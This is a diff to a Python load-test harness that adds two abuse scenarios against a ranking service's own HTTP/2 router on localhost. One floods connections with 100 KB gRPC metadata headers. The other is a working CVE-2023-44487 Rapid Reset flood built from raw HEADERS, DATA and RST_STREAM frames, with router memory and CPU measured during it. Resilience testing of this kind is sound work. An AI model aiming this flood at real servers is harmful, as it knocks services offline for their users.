@@ -220,7 +220,7 @@ def run_overload(args: argparse.Namespace) -> dict[str, Any]:
     workload = WorkloadConfig(seed=args.seed, duration_s=args.duration_s, rate_rps=args.overload_rate, users=300,
                               length_scale=8.0, recent_tokens=16, candidates=32)  # fmt: skip
     peaks = {"rank_queue_depth": 0, "preinfer_backlog": 0, "hbm_resident_bytes": 0}
-    gauges = {"rank_inflight": 0.0, "rank_admission_limit": 0.0}
+    gauges = {"rank_inflight": 0.0, "rank_inflight_work_ms": 0.0}  # predicted engine time held
     rss: dict[str, list[float]] = {}  # service -> samples (MiB)
 
     async def drive(stack: Stack) -> ReplayResult:
@@ -336,6 +336,197 @@ def run_overload(args: argparse.Namespace) -> dict[str, Any]:
     return record
 
 
+# ---------------------------------------------------------------------- front-door abuse (issue 12)
+
+
+def _router_cpu_s(pid: int) -> float:
+    """CPU seconds (user + system) a process has used (0 when it is gone)."""
+    try:
+        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
+        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+    except OSError:
+        return 0.0
+
+
+def _front_door_stack(args: argparse.Namespace) -> Stack:
+    """Two rankers behind the router (its default front door, the HTTP/2 relay); no trigger."""
+    return Stack(StackConfig(rankers=2, slo_ms=args.slo_ms, arena_bytes=256 << 20, trigger_policy="off"))
+
+
+def _rank_requests(n: int) -> list[bytes]:
+    """Small, valid ranking calls (64-token prefixes) for the tiny model."""
+    from bench.synthetic import Shape, batch
+    from services.ranker.wire import rank_request
+
+    prefixes, suffixes = batch(7, [Shape(3, 64, 8, 16)] * n)
+    return [rank_request(p, s, f"fd{i}").SerializeToString()
+            for i, (p, s) in enumerate(zip(prefixes, suffixes, strict=True))]  # fmt: skip
+
+
+class _Outcomes(list[str]):
+    """Ranking call outcomes ("OK" or a status name), with a way to wait for the n-th."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self._tick = asyncio.Event()
+
+    def note(self, outcome: str) -> None:
+        self.append(outcome)
+        self._tick.set()
+
+    async def reach(self, n: int) -> None:
+        while len(self) < n:
+            self._tick.clear()
+            await self._tick.wait()
+
+
+async def _rank_loop(channel: grpc.aio.Channel, requests: list[bytes], stop: asyncio.Event,
+                     outcomes: _Outcomes) -> None:  # fmt: skip
+    """Ranking calls one after another until `stop`, each outcome noted."""
+    rank = channel.unary_unary("/relaygr.v1.Ranker/Rank")
+    i = 0
+    while not stop.is_set():
+        try:
+            await rank(requests[i % len(requests)], timeout=10)
+            outcomes.note("OK")
+        except grpc.aio.AioRpcError as exc:
+            outcomes.note(exc.code().name)
+        i += 1
+
+
+def run_router_oversized_header(args: argparse.Namespace) -> dict[str, Any]:
+    """Finding 4 of issue 12: on one channel, ranking calls run (8 at a time) while calls with a
+    100 KB metadata header are sent now and then. `failed` counts the OTHER calls that failed (the
+    ones sharing the connection); `oversized_status` is what the oversized calls got."""
+    requests = _rank_requests(32)
+    outcomes = _Outcomes()
+    oversized: list[str] = []
+
+    async def drive(port: int) -> None:
+        channel = grpc.aio.insecure_channel(f"127.0.0.1:{port}")
+        stop = asyncio.Event()
+        loops = [asyncio.ensure_future(_rank_loop(channel, requests, stop, outcomes)) for _ in range(8)]
+        rank = channel.unary_unary("/relaygr.v1.Ranker/Rank")
+        try:
+            for i in range(args.oversized_calls):
+                await outcomes.reach(20 * (i + 1))  # calls in flight, and between oversized ones
+                try:
+                    await rank(requests[i % len(requests)], timeout=10, metadata=(("x-big", "v" * 100_000),))
+                    oversized.append("OK")
+                except grpc.aio.AioRpcError as exc:
+                    oversized.append(exc.code().name)
+        finally:
+            stop.set()
+            await asyncio.gather(*loops)
+            await channel.close()
+
+    with _front_door_stack(args) as stack:
+        asyncio.run(drive(stack.router_port))
+    record = {
+        "scenario": "router_oversized_header",
+        "calls": len(outcomes),
+        "failed": sum(1 for o in outcomes if o != "OK"),
+        "oversized_calls": len(oversized),
+        "oversized_status": sorted(set(oversized)),
+        "front_door": "relay",
+    }
+    print(f"router_oversized_header {record}", flush=True)
+    return record
+
+
+def run_rapid_reset(args: argparse.Namespace) -> dict[str, Any]:
+    """CVE-2023-44487 against the router: for `attack_s` seconds an attacker opens ranking streams
+    (HEADERS + the message) and resets each at once, as fast as it can write, reconnecting when
+    cut off; meanwhile a normal client's calls run (8 at a time) on their own connection.
+    Records the normal calls and failures, the attack streams sent, whether (and how often) the
+    attacker was cut off, the router's RSS growth and CPU over the attack."""
+    from services.router import h2wire
+    from services.router.h2wire import frame
+
+    requests = _rank_requests(32)
+    outcomes = _Outcomes()
+    attack = {"streams": 0, "connections": 0, "cut_off": 0}
+    block = h2wire.literal_block([(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/relaygr.v1.Ranker/Rank"),
+                           (b":authority", b"router"), (b"content-type", b"application/grpc"),
+                           (b"te", b"trailers")])  # fmt: skip
+    message = b"\x00" + len(requests[0]).to_bytes(4, "big") + requests[0]
+
+    async def one_connection(port: int, until: float) -> None:
+        reader, writer = await asyncio.open_connection("127.0.0.1", port)
+        attack["connections"] += 1
+        closed = asyncio.Event()
+
+        async def drain() -> None:
+            with contextlib.suppress(ConnectionError):
+                while await reader.read(65_536):
+                    pass
+            closed.set()
+
+        drainer = asyncio.ensure_future(drain())
+        writer.write(h2wire.CONNECTION_PREFACE + h2wire.settings_frame([]))
+        stream_id = 1
+        try:
+            while not closed.is_set() and time.monotonic() < until and stream_id < (1 << 31) - 200:
+                chunk = bytearray()
+                for _ in range(100):
+                    chunk += frame(h2wire.HEADERS, h2wire.END_HEADERS, stream_id, block)
+                    chunk += frame(h2wire.DATA, h2wire.END_STREAM, stream_id, message)
+                    chunk += frame(h2wire.RST_STREAM, 0, stream_id, h2wire.CANCEL.to_bytes(4, "big"))
+                    stream_id += 2
+                writer.write(bytes(chunk))
+                attack["streams"] += 100
+                try:
+                    await writer.drain()
+                except ConnectionError:
+                    break
+            with contextlib.suppress(TimeoutError):
+                await asyncio.wait_for(closed.wait(), 2.0)
+            attack["cut_off"] += closed.is_set() and time.monotonic() < until
+        finally:
+            writer.close()
+            drainer.cancel()
+
+    async def drive(port: int, pid: int) -> dict[str, float]:
+        channel = grpc.aio.insecure_channel(f"127.0.0.1:{port}")
+        stop = asyncio.Event()
+        loops = [asyncio.ensure_future(_rank_loop(channel, requests, stop, outcomes)) for _ in range(8)]
+        await outcomes.reach(20)  # the normal client is up and running
+        rss0, cpu0, t0 = _rss_mb(pid), _router_cpu_s(pid), time.monotonic()
+        until = t0 + args.attack_s
+        while time.monotonic() < until:
+            await one_connection(port, until)
+        measured = {"router_rss_growth_mb": round(_rss_mb(pid) - rss0, 1),
+                    "router_cpu_s": round(_router_cpu_s(pid) - cpu0, 2),
+                    "attack_s": round(time.monotonic() - t0, 2)}  # fmt: skip
+        stop.set()
+        await asyncio.gather(*loops)
+        await channel.close()
+        return measured
+
+    with _front_door_stack(args) as stack:
+        assert stack.router is not None
+        measured = asyncio.run(drive(stack.router_port, stack.router.proc.pid))
+    record = {
+        "scenario": "rapid_reset",
+        "calls": len(outcomes),
+        "failed": sum(1 for o in outcomes if o != "OK"),
+        "attack_streams_sent": attack["streams"],
+        "attack_connections": attack["connections"],
+        "attacker_cut_off": attack["cut_off"] > 0,
+        "attacker_cut_offs": attack["cut_off"],
+        **measured,
+        "router_cpu_fraction": round(measured["router_cpu_s"] / max(measured["attack_s"], 1e-9), 2),
+    }
+    print(f"rapid_reset {record}", flush=True)
+    return record
+
+
+FRONT_DOOR_SCENARIOS: dict[str, Callable[[argparse.Namespace], dict[str, Any]]] = {
+    "router_oversized_header": run_router_oversized_header,
+    "rapid_reset": run_rapid_reset,
+}
+
+
 def main(argv: list[str] | None = None) -> None:
     parser = argparse.ArgumentParser(
         description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
@@ -362,9 +553,14 @@ def main(argv: list[str] | None = None) -> None:
     )
     parser.add_argument("--overload-ranker-args", type=shlex.split, default=[],
                         help="extra ranker flags for the overload run, one string (e.g. an admission setting)")  # fmt: skip
+    parser.add_argument("--front-door-scenarios", nargs="*", default=list(FRONT_DOOR_SCENARIOS),
+                        choices=list(FRONT_DOOR_SCENARIOS), help="front-door abuse scenarios (none given: skip)")  # fmt: skip
+    parser.add_argument("--oversized-calls", type=int, default=5, help="router_oversized_header: 100 KB calls")  # fmt: skip
+    parser.add_argument("--attack-s", type=float, default=5.0, help="rapid_reset: how long the attack runs")
     parser.add_argument("--out-dir", default=None)
     args = parser.parse_args(argv)
     records = [run_scenario(name, args) for name in args.scenarios]
+    records += [FRONT_DOOR_SCENARIOS[name](args) for name in args.front_door_scenarios]
     if args.overload_rate:
         records.append(run_overload(args))
     if args.fuzz:
